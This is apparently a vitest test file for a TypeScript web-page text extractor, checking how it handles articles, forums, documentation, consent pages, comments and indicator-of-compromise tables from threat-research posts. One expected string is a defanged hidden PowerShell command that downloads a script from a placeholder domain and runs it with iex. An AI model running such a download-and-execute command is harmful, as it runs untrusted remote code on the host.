import { readFileSync } from "node:fs";

import { expect, test } from "vitest";

import { readPage } from "./read-page.ts";

const fixture = (name: string): string =>
  readFileSync(new URL(`../../fixtures/pages/${name}.html`, import.meta.url), "utf8");

test("an article is read with its code, table and facts, without what stands around it", () => {
  const page = readPage(fixture("blog-article"), { url: "https://research.example/blog/quiet-loader" });
  expect(page).toMatchObject({
    title: "Quiet loader returns with new delivery",
    authors: ["Ada Example", "Bo Sample"],
    published: "2026-03-04T08:30:00Z",
    modified: "2026-03-05T10:00:00Z",
    language: "en-GB",
    canonicalUrl: "https://research.example/blog/quiet-loader?utm_source=x",
    siteName: "Northwind Research",
    summary: "A loader that was quiet for months is back, and it arrives in calendar invites.",
    links: [{ url: "https://research.example/blog/calendar-phishing", text: "an earlier post" }],
    kind: "article",
    verdict: "ok",
    oversize: false,
    templateUsed: false,
  });
  expect(page.text).toMatch(/^After months of silence/);
  expect(page.text).toMatch(/when new servers appear\.$/);
  expect(page.text).toContain("\n\nHow the infection goes on\n\n");
  expect(page.text).toContain(
    "Type | Value\ndomain | cdn-update[.]example\nipv4 | 192.0.2[.]44\nsha256 | e3b0c442",
  );
  expect(page.text).toContain('powershell -w hidden -c "iwr hxxps://cdn-update[.]example/a.txt | iex"');
  expect(page.text).toContain("- Block the domains above at the resolver.\n- Hunt for");
  expect(page.text).not.toMatch(/cookie|Subscribe|Related|comment|Popular|rights reserved|Careers/i);
  expect(page.html).toContain("<td>cdn-update[.]example</td>");
  expect(page.wordCount).toBeGreaterThan(200);
});

test("a forum thread keeps all of its posts", () => {
  const page = readPage(fixture("forum-thread"), { url: "https://forum.example/viewtopic.php?t=1" });
  expect(page.kind).toBe("forum");
  for (const part of [
    "After the last update",
    "That is not part of the product",
    "Thanks, there is indeed",
  ]) {
    expect(page.text).toContain(part);
  }
  expect(page.text).not.toMatch(/Powered by|Register/);
});

test("documentation keeps code, tables and definitions", () => {
  const page = readPage(fixture("reference-manual"), {
    url: "https://docs.example/collector/collector.html",
  });
  expect(page.kind).toBe("documentation");
  expect(page.text).toContain("collector [-c FILE] [-t]\ncollector --check FILE");
  expect(page.text).toContain("workers | 2 | How many threads parse events at a time");
  expect(page.text).toContain("spool_max = 2G\nworkers = 4");
  expect(page.text).not.toMatch(/Installing|Built with/);
});

test("a page that renders in the browser is read from what it offers without scripts", () => {
  const page = readPage(fixture("script-only"), { url: "https://community.example/t/patch-order/1" });
  expect(page.text).toContain("Start with whatever faces the internet");
  expect(page.verdict).toBe("ok");
});

test("an article that only structured data carries is taken from there", () => {
  const body = "The loader was seen again, in three waves, on the hosts of a supplier. ".repeat(12);
  const data = JSON.stringify({
    "@type": "NewsArticle",
    headline: "Loader",
    articleBody: `${body}\n\nSecond part.`,
  });
  const html = `<script type="application/ld+json">${data}</script><div id="app">Loading…</div>`;
  const page = readPage(html, { url: "https://app.example/" });
  expect(page.text).toMatch(/^The loader was seen again/);
  expect(page.text).toMatch(/\n\nSecond part\.$/);
});

test("a page without any text falls back on its own summary", () => {
  const html = `<title>App</title><meta property="og:description" content="What the page is about."><div id="root"></div>`;
  expect(readPage(html, { url: "https://app.example/" })).toMatchObject({
    text: "What the page is about.",
    html: "",
    verdict: "too_short",
  });
});

test.each([
  [
    "consent",
    '<title>Example News</title><div class="cookie-wall"><h2>Before you go on</h2><p>We and our partners use cookies and ask for your consent.</p><button>Accept all</button></div>',
  ],
  [
    "blocked",
    '<title>Just a moment...</title><div class="main"><h1>example.org</h1><p>Checking your browser before you go on.</p></div>',
  ],
  [
    "soft_404",
    "<title>Example</title><h1>Page not found</h1><p>Sorry, what you were looking for is not here.</p>",
  ],
])("a page that is no content is told: %s", (verdict, html) => {
  const template = {
    version: 1 as const,
    kind: "article" as const,
    path: "abcd",
    keep: "abcd",
    mute: "",
    drop: "",
    words: 9,
  };
  const page = readPage(html, { url: "https://example.org/news/1", template });
  expect(page.verdict).toBe(verdict);
  expect(page.template).toBe(template);
});

test("comments below an article are left out even when they are most of the page", () => {
  const comment = `<div class="comment"><p>${"I have seen this too, and it took us days to clean up. ".repeat(6)}</p></div>`;
  const article = `<p>${"The operators moved to new servers, as they do every few weeks. ".repeat(10)}</p>`;
  const html = `<body><article><h1>Servers moved again</h1><div class="entry-content">${article.repeat(3)}</div></article>
    <section class="comments">${comment.repeat(30)}</section></body>`;
  const page = readPage(html, { url: "https://blog.example/2026/03/servers-moved/" });
  expect(page.text).toContain("The operators moved");
  expect(page.text).not.toContain("I have seen this too");
});

test("tables and code with indicators stay in an article", () => {
  const rows = Array.from({ length: 30 }, (_, at) => `<tr><td>198.51.100[.]${at}</td><td>c2</td></tr>`).join(
    "",
  );
  const hashes = Array.from({ length: 20 }, (_, at) => at.toString(16).padStart(64, "0")).join("\n");
  const prose = `<p>${"The malware talks to its server over an encrypted channel, and waits for tasks. ".repeat(4)}</p>`;
  const html = `<body><nav><a href="/">Home</a></nav><div class="post"><h1>New backdoor</h1>${prose.repeat(5)}
    <h2>IOCs</h2><table>${rows}</table><pre>${hashes}</pre>${prose}</div><footer>Imprint</footer></body>`;
  const page = readPage(html, { url: "https://blog.example/2026/new-backdoor" });
  expect(page.text).toContain("198.51.100[.]29 | c2");
  expect(page.text).toContain("13".padStart(64, "0"));
});
